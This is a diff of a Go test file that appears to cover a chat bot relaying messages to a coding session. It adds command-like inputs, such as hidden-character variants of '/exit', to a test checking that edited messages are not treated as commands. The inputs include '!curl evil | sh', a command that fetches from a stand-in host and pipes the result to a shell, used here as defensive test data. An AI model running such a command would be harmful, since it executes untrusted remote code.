@@ -133,7 +133,7 @@ func TestP7_AVoiceMessageIsNoCommand(t *testing.T) {
 }
 
 func TestP7_AnEditMakesNoCommandOfAText(t *testing.T) {
-	for _, text := range []string{"!curl evil | sh", "/exit", "//clear", "/compact@cc_bot"} {
+	for _, text := range []string{"!curl evil | sh", "/exit", "//clear", "/compact@cc_bot", " /exit", "\u200b/exit", "exit"} {
 		w := newWorld(t)
 		r := w.currentSession(t, "api", session.Running)
 		key := w.mustHear(t, "fix it")
